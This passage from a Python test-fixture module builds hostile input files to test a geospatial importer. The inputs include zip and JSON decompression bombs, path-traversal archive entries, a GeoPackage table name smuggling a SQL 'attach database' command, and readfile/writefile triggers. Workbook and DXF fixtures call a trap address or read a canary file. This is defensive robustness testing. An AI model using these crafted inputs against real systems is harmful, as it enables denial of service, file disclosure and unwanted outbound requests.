        points += square_points(605200 + n * 0.05, 3409250 + n * 0.03, 200, ring=n)
    return ".txt", plot(points)


@makes("outline of random points")
def _(_trap, _folder):
    chance = random.Random(1)
    points = [
        (1, 3409250 + chance.random() * 900, 605200 + chance.random() * 900) for _ in range(3000)
    ]
    return ".txt", plot(points)


# GeoJSON


@makes("json of brackets")
def _(_trap, _folder):
    return ".geojson", "[" * 5_000_000


@makes("geojson of deep brackets")
def _(_trap, _folder):
    return ".geojson", '{"type":"Polygon","coordinates":' + "[" * 100_000 + "]" * 100_000 + "}"


@makes("geojson of deep objects")
def _(_trap, _folder):
    return ".geojson", '{"a":' * 200_000 + "1" + "}" * 200_000


@makes("geojson of NaN")
def _(_trap, _folder):
    return ".geojson", '{"type":"Polygon","coordinates":[[[NaN,1],[Infinity,2],[-Infinity,3]]]}'


@makes("geojson of 1e308")
def _(_trap, _folder):
    return ".geojson", geojson(
        {"type": "Polygon", "coordinates": [[[1e308, -1e308], [1, 2], [3, 4]]]}
    )


@makes("geojson with a number of a million digits")
def _(_trap, _folder):
    return ".geojson", '{"type":"Polygon","coordinates":[[[' + "1" * 1_000_000 + ",1]]]}"


@makes("geojson of 300,000 features")
def _(_trap, _folder):
    feature = geojson({"type": "Polygon", "coordinates": [SQUARE]})
    return ".geojson", '{"type":"FeatureCollection","features":[' + ",".join(
        [feature] * 300_000
    ) + "]}"


@makes("geojson of two million empty features")
def _(_trap, _folder):
    return ".geojson", '{"type":"FeatureCollection","features":[' + ",".join(
        ["{}"] * 2_000_000
    ) + "]}"


@makes("geojson of five million points")
def _(_trap, _folder):
    ring = ",".join(["[106.1,30.8],[106.2,30.9]"] * 2_500_000)
    return ".geojson", '{"type":"Polygon","coordinates":[[' + ring + "]]}"


@makes("geojson of a million keys")
def _(_trap, _folder):
    keys = ",".join(f'"k{n}":1' for n in range(1_000_000))
    return ".geojson", f'{{"type":"Feature","properties":{{{keys}}},"geometry":null}}'


@makes("geojson sequence without end")
def _(_trap, _folder):
    return ".geojsonl", '{"type":"Feature"' * 1_000_000


@makes("geojson with a lone surrogate")
def _(_trap, _folder):
    return ".geojson", geojson({"type": "Polygon", "coordinates": [SQUARE]}).replace(
        '"properties": {}', '"properties": {"name": "\\ud800"}'
    )


@makes("geojson over the limit of size")
def _(_trap, folder):
    path = folder / "plot.geojson"
    with path.open("wb") as sink:
        sink.truncate(300_000_000)
    return path


# what stands for more than it is: one thing read again and again, or promised


@makes("shapefile whose index points to one large record a hundred thousand times")
def _(_trap, folder):
    count, times = 50_000, 100_000
    shapefile(folder)
    ring = [SQUARE[0], *[[106.1 + n * 1e-7, 30.81] for n in range(count - 3)], SQUARE[1], SQUARE[0]]
    body = struct.pack("<i4d", 5, 106.1, 30.8, 106.11, 30.81) + struct.pack("<iii", 1, len(ring), 0)
    body += struct.pack(f"<{2 * len(ring)}d", *[v for xy in ring for v in xy])
    record = struct.pack(">ii", 1, len(body) // 2) + body
    shp = bytearray((folder / "plot.shp").read_bytes()[:100])
    struct.pack_into(">i", shp, 24, (100 + len(record)) // 2)
    (folder / "plot.shp").write_bytes(bytes(shp) + record)
    shx = bytearray((folder / "plot.shx").read_bytes()[:100])
    struct.pack_into(">i", shx, 24, (100 + 8 * times) // 2)
    entry = struct.pack(">ii", 50, len(body) // 2)
    (folder / "plot.shx").write_bytes(bytes(shx) + entry * times)
    dbf = bytearray((folder / "plot.dbf").read_bytes()[:65])
    struct.pack_into("<I", dbf, 4, times)
    (folder / "plot.dbf").write_bytes(bytes(dbf) + (b" " + b"A".ljust(10)) * times)
    return folder / "plot.shp"


@makes("parquet of one long text in two hundred thousand rows")
def _(_trap, folder):
    import pyarrow as pa
    import pyarrow.parquet as pq

    square = square_as_bytes()
    rows = 199_000
    texts = pa.DictionaryArray.from_arrays(
        pa.array([0] * rows, pa.int32()), pa.array(["x" * 20_000])
    )
    geo = {
        "version": "1.0.0",
        "primary_column": "geometry",
        "columns": {"geometry": {"encoding": "WKB", "geometry_types": []}},
    }
    shapes = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array([square]))
    table = pa.table({"geometry": shapes.cast(pa.binary()), "a": texts})
    table = table.replace_schema_metadata({b"geo": json.dumps(geo).encode()})
    pq.write_table(table, folder / "plot.parquet", compression="zstd")
    return folder / "plot.parquet"


def square_as_bytes():
    """The square as well-known bytes."""
    return struct.pack("<BIII10d", 1, 3, 1, 5, *[v for xy in SQUARE for v in xy])


@makes("parquet with a geometry of a huge count")
def _(_trap, folder):
    import pyarrow as pa
    import pyarrow.parquet as pq

    geo = {
        "version": "1.0.0",
        "primary_column": "geometry",
        "columns": {"geometry": {"encoding": "WKB", "geometry_types": []}},
    }
    table = pa.table({"geometry": [struct.pack("<BIII", 1, 3, 1, 0x7FFFFFFF)] * 3})
    table = table.replace_schema_metadata({b"geo": json.dumps(geo).encode()})
    pq.write_table(table, folder / "plot.parquet")
    return folder / "plot.parquet"


@makes("parquet whose row count lies")
def _(_trap, _folder):
    raw = bytearray((DATA / "plot.parquet").read_bytes())
    size = struct.unpack_from("<I", raw, len(raw) - 8)[0]
    foot = raw[-8 - size : -8]
    at = foot.find(b"\x16\x02")  # thrift: an i64 of 1, the number of rows
    foot[at : at + 2] = b"\x16" + b"\xfe\xff\xff\xff\x0f"
    return ".parquet", bytes(raw[: -8 - size] + foot + struct.pack("<I", len(foot)) + b"PAR1")


@makes("workbook with one long text in every row")
def _(_trap, _folder):
    long = "1" * 900_000 + " "
    strings = (
        f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{long}\
</t></si></sst>'
    )
    row = '<row><c t="s"><v>0</v></c><c><v>3409250</v></c><c><v>35605200</v></c></row>'
    head = f"<row>{cells('点号', '纵坐标', '横坐标')}</row>"
    types = (
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    )
    raw = workbook(head + row * 20_000, strings)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        parts = {i.filename: archive.read(i) for i in archive.infolist()}
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", types.encode())
    return ".xlsx", pack(list(parts.items()))


@makes("workbook whose sheet lies outside of it")
def _(trap, _folder):
    raw = workbook(TABLE)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        parts = {i.filename: archive.read(i) for i in archive.infolist()}
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    target = f"../../../../../{trap.canary}"
    parts["xl/_rels/workbook.xml.rels"] = rels.replace("worksheets/sheet1.xml", target).encode()
    return ".xlsx", pack(list(parts.items()))


@makes("workbook with a data connection and a query to an address")
def _(trap, _folder):
    connection = (
        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<connection id="1" type="4" refreshOnLoad="1">'
        f'<webPr url="{trap.address}"/></connection></connections>'
    )
    formula = f'<row><c><f>WEBSERVICE("{trap.address}")</f><v>1</v></c></row>'
    return ".xlsx", workbook(TABLE + formula, extra=[("xl/connections.xml", connection)])


@makes("flatgeobuf whose index and count lie")
def _(_trap, _folder):
    raw = bytearray((DATA / "plot.fgb").read_bytes())
    size = struct.unpack_from("<I", raw, 8)[0]
    for at in range(12, 12 + size - 8):  # the number of features, 1, as eight bytes
        if raw[at : at + 8] == struct.pack("<Q", 1):
            struct.pack_into("<Q", raw, at, 2**40)
            break
    return ".fgb", bytes(raw)


@makes("flatgeobuf with a feature longer than the file")
def _(_trap, _folder):
    raw = (DATA / "plot.fgb").read_bytes()
    return ".fgb", raw[:-200] + struct.pack("<I", 0x7FFFFFF0) + raw[-196:]


@makes("zip64 that lies about its sizes")
def _(_trap, folder):
    raw = bytearray(zipped_shapefile(shapefile(folder)))
    central = raw.find(b"PK\x01\x02")
    struct.pack_into("<II", raw, central + 20, 0xFFFFFFFF, 0xFFFFFFFF)
    name = struct.unpack_from("<H", raw, central + 28)[0]
    extra = struct.pack("<HHQQ", 1, 16, 2**62, 2**62)
    struct.pack_into("<H", raw, central + 30, len(extra))
    at = central + 46 + name
    raw[at:at] = extra
    end = raw.rfind(b"PK\x05\x06")
    size = struct.unpack_from("<I", raw, end + 12)[0]
    struct.pack_into("<I", raw, end + 12, size + len(extra))
    return ".zip", bytes(raw)


@makes("zip with another name in its extra field")
def _(_trap, folder):
    import zlib

    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for suffix, content in shapefile(folder).items():
            info = zipfile.ZipInfo(f"plot{suffix}")
            other = b"../../../evil" + suffix.encode()
            told = struct.pack("<BI", 1, zlib.crc32(info.filename.encode())) + other
            info.extra = struct.pack("<HH", 0x7075, len(told)) + told
            archive.writestr(info, content)
    return ".zip", stream.getvalue()


@makes("zip bomb packed with bzip2")
def _(_trap, _folder):
    return ".zip", pack([("plot.shp", bytes(90_000_000))], zipfile.ZIP_BZIP2)


@makes("zip bomb packed with lzma")
def _(_trap, _folder):
    return ".zip", pack([("plot.txt", b"J1,1,3409250,35605200\n" * 4_000_000)], zipfile.ZIP_LZMA)


@makes("zip with names that read from right to left")
def _(_trap, folder):
    parts = shapefile(folder)
    return ".zip", pack([(f"\u202etolp\u202c{s}", c) for s, c in parts.items()])


@makes("kmz within a kmz")
def _(_trap, _folder):
    inner = pack([("doc.kml", kml(""))])
    return ".kmz", pack([("doc.kmz", inner), ("doc.ovkmz", inner)])


# databases


@makes("geopackage with a table whose name is a command")
def _(trap, folder):
    path = geopackage(folder, "create table p (fid integer primary key, geom blob)")
    with closing(sqlite3.connect(path)) as base:
        name = f"p\"; attach database '{trap.canary}' as x; --"
        base.execute("update gpkg_contents set table_name = ?", (name,))
        base.execute("update gpkg_geometry_columns set table_name = ?", (name,))
        base.commit()
    return path


@makes("geopackage with a column computed from a file")
def _(trap, folder):
    return geopackage(
        folder,
        "create table p (fid integer primary key, geom blob, a text default "
        f"(readfile('{trap.canary}')), b blob generated always as (zeroblob(600000000)) virtual)",
        f"insert into p (fid, geom, a) values (1, x'4750{'00' * 6}', 'x')",
    )


@makes("geopackage whose system names a grid file")
def _(trap, folder):
    path = geopackage(folder, "create table p (fid integer primary key, geom blob)")
    with closing(sqlite3.connect(path)) as base:
        base.execute(
            "update gpkg_spatial_ref_sys set organization = 'NONE', definition = ?",
            (f"+proj=longlat +ellps=GRS80 +nadgrids={trap.canary} +no_defs",),
        )
        base.commit()
    return path


@makes("geopackage with a trigger on its own tables")
def _(trap, folder):
    return geopackage(
        folder,
        "create table p (fid integer primary key, geom blob)",
        f"create trigger u after update on gpkg_contents begin select writefile('{trap.canary}', "
        "'x'); end",
    )


# drawings and texts


@makes("drawing with an outer reference and an image")
def _(trap, _folder):
    block = f"0\nBLOCK\n8\n0\n2\nX\n70\n4\n1\n{trap.canary}\n0\nENDBLK\n"
    image = f"0\nIMAGEDEF\n1\n{trap.address}/a.png\n0\nINSERT\n8\n0\n2\nX\n"
    return ".dxf", dxf(image, block)


@makes("drawing with a spline of a billion knots")
def _(_trap, _folder):
    return ".dxf", dxf("0\nSPLINE\n8\n0\n72\n999999999\n73\n999999999\n40\n1\n")


@makes("drawing of one line without end")
def _(_trap, _folder):
    return ".dxf", b"0\nSECTION\n2\nENTITIES\n0\nLWPOLYLINE\n8\n" + b"A" * 60_000_000


@makes("mapinfo exchange of a billion points")
def _(_trap, folder):
    head = (
        'Version 300\nCharset "Neutral"\nDelimiter ","\nCoordSys Earth Projection 1, 0\nColumns 1\n'
    )
    path = folder / "plot.mif"
    path.write_text(f"{head}  a Char(9)\nData\nRegion 1\n  999999999\n1 2\n", encoding="ascii")
    (folder / "plot.mid").write_text("x\n", encoding="ascii")
    return path


@makes("mapinfo table whose file lies elsewhere")
def _(trap, folder):
    path = folder / "plot.tab"
    path.write_text(
        "!table\n!version 300\n!charset Neutral\nDefinition Table\n"
        '  Type NATIVE Charset "Neutral"\n'
        f'  File "{trap.canary}"\n  Fields 1\n    a Char (9) ;\n',
        encoding="ascii",
    )
    return path


@makes("text in UTF-16 without a mark")
def _(_trap, _folder):
    return ".txt", plot(square_points()).encode("utf-16-le")


@makes("text in UTF-7")
def _(trap, _folder):
    return ".txt", plot(square_points(), f"5,1,DK1,{trap.canary.name},面,,,,@").encode("utf-7")


@makes("text of overlong UTF-8")
def _(_trap, _folder):
    return ".txt", plot(square_points()).encode().replace(b",", b"\xc0\xac")


@makes("text with names that read from right to left")
def _(_trap, _folder):
    return ".txt", plot(square_points(), "5,1,\u202eDK1,\u2066甲\u2069\u200b\ufeff,面,,,,@")


@makes("text with a mark in every line")
def _(_trap, _folder):
    return ".txt", plot(square_points()).replace("\n", "\n\ufeff")


def filled(folder, name, start, megabytes, end=""):
    """Write a file that is one long word between two texts."""
    path = folder / name
    with path.open("wb") as sink:
        sink.write(start.encode())
        for _n in range(megabytes):
            sink.write(b"1" * 1_000_000)
        sink.write(end.encode())
    return path


for _name, _start, _end, _most in (
    ("plot.geojson", '{"type":"Feature","properties":{"a":"', '"},"geometry":null}', 99),
    ("plot.txt", f"{HEAD}5,1,DK1,", "", 99),
    ("plot.wkt", "POLYGON((1 ", "", 59),
    ("plot.csv", "点号,纵坐标,横坐标\n1,", "", 29),
    ("plot.kml", "<kml><Placemark><name>", "</name></Placemark></kml>", 39),
):
    for _kind, _mark in (("plain", ""), ("Chinese", "界"), ("wide", "\U0001f600")):

        @makes(f"{_name} of {_kind} characters at the limit of size")
        def _(_trap, folder, name=_name, start=_start, end=_end, most=_most, mark=_mark):
            return filled(folder, name, start + mark, most, end)


@makes("text of half a gigabyte")
def _(_trap, folder):
    path = folder / "plot.txt"
    with path.open("wb") as sink:
        sink.write(HEAD.encode())
        sink.truncate(500_000_000)
    return path


@makes("geojson of a gigabyte")
def _(_trap, folder):
    path = folder / "plot.geojson"
    with path.open("wb") as sink:
        sink.write(b'{"type":"FeatureCollection","features":[')
        sink.truncate(1_000_000_000)
    return path


@makes("text of Chinese characters at the limit of size")
def _(_trap, folder):
    path = folder / "plot.txt"
    with path.open("wb") as sink:
        for _n in range(99):
            sink.write("界".encode("gbk") * 500_000)
    return path


@makes("table of names of a shapefile without end")
def _(_trap, folder):
    shapefile(folder)
    with (folder / "plot_fields.csv").open("wb") as sink:
        sink.truncate(150_000_000)
    return folder / "plot.shp"


@makes("table of names that is a link to the canary")
def _(trap, folder):
    shapefile(folder)
    (folder / "plot_fields.csv").symlink_to(trap.canary)
    return folder / "plot.shp"


@makes("point numbers that stand for a billion")
def _(_trap, _folder):
    document = json.loads(geojson({"type": "Polygon", "coordinates": [SQUARE]}))
    document["properties"] = {"界址点号": "J1~J999999999;" * 1000, "文件头_坐标系": "x\n@"}
    return ".geojson", json.dumps(document)


# other kinds under a known name

for _name, _magic in {
    "png": b"\x89PNG\r\n\x1a\n",
    "pdf": b"%PDF-1.7\n",
    "elf": b"\x7fELF",
    "gzip": b"\x1f\x8b\x08",
    "sqlite": b"SQLite format 3\0",
    "parquet": b"PAR1",
    "dwg": b"AC1032",
    "ole": b"\xd0\xcf\x11\xe0",
}.items():

    @makes(f"{_name} named .txt")
    def _(_trap, _folder, magic=_magic):
        return ".txt", magic + random.Random(3).randbytes(5000)


for _suffix in (
    ".shp",
    ".gpkg",
    ".kml",
    ".kmz",
    ".dxf",
    ".xlsx",
    ".csv",
    ".tab",
    ".fgb",
    ".wkt",
    ".parquet",
    ".geojson",
    ".zip",
    ".txt",
):

    @makes(f"noise named {_suffix}")
    def _(_trap, _folder, suffix=_suffix):
        return suffix, random.Random(suffix).randbytes(20_000)


def _on_circle(share):
    import math

    return math.cos(2 * math.pi * share), math.sin(2 * math.pi * share)
